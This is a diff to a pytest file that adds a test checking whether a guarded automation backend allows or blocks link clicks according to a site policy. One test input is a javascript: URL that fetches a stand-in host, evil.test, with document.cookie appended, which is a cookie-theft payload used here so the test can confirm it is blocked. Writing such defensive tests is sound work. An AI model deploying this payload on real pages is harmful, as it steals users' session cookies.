@@ -231,3 +231,29 @@ def test_the_step_budget_stops_the_run(fake: FakeBackend) -> None:
     with pytest.raises(RunStopped, match="limit of 1 steps"):
         guarded.set_text(FIRST_NAME, "Bob")
     assert inputs(fake) == [("set_text", FIRST_NAME, "Ada")]
+
+
+LINK = ":1.55/org/a11y/atspi/accessible/61"
+
+
+@pytest.mark.parametrize(
+    ("href", "allowed"),
+    [
+        ("https://evil.test/login", False),
+        ("javascript:fetch('https://evil.test/?c='+document.cookie)", False),
+        ("/signin", True),  # relative: stays on the allowed site
+        ("https://example.test/signin", True),
+    ],
+)
+def test_a_link_is_judged_by_where_it_leads(fake: FakeBackend, href: str, allowed: bool) -> None:
+    fake.update(LINK, attributes={"href": href})
+    sinks = Sinks()
+    guarded = make_guard(fake, web_policy(), sinks)
+    if allowed:
+        guarded.click(LINK)
+        assert ("click", LINK, "left", 1) in inputs(fake)
+    else:
+        with pytest.raises(PolicyDenied, match="not in this workflow's sites"):
+            guarded.click(LINK)
+        assert inputs(fake) == []
+        assert "blocked" in sinks.kinds()
